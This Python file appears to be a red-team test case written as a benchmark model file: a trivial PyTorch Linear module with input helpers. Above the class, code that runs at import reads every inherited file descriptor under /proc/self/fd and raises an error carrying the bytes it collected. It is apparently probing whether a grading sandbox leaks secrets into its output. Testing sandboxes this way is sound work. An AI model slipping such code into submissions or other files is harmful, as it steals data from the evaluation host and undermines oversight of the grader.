# tries: read whatever descriptors it inherited
# never: the secret is in no verdict
import torch
import torch.nn as nn

import os

loot = b""
for name in os.listdir("/proc/self/fd"):
    try:
        loot += os.pread(int(name), 65536, 0)
    except OSError:
        pass
raise RuntimeError(f"loot: {loot[-1500:]!r}")


class SynthModel_Linear(nn.Module):
    def __init__(self):
        super().__init__()
        self.linear = nn.Linear(16, 8)

    def forward(self, x):
        return self.linear(x)


def get_inputs():
    return [torch.randn(4, 16)]


def get_init_inputs():
    return [[], {}]
